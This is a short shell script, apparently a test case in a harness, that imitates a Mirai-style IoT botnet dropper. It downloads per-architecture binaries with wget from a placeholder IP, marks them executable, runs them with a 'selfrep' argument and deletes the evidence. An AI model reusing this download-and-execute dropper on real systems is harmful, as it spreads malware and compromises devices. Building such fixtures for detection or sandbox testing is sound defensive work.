#!/bin/sh
. /opt/case/case.sh

cd /tmp || cd /var/run || cd /mnt || cd /
for a in mips mpsl arm4 arm5 arm7 ppc m68k sh4 marker; do
    wget -q "http://203.0.113.10/programs/$a" -O "n.$a" || true
    cat "n.$a" >badbox
    chmod 777 badbox
    ./badbox selfrep 2>/dev/null || true
    rm -f "n.$a"
done
./badbox
wait_for /tmp/reached
rm -f badbox
took_place
